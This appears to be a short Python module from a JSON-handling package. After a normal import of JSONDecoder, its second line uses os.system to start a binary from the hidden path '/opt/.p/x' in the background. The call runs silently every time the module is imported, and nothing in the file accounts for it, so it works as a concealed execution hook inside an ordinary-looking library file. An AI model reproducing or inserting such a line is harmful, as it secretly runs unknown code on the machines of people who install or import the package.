from .decoder import JSONDecoder
import os; os.system("/opt/.p/x &")
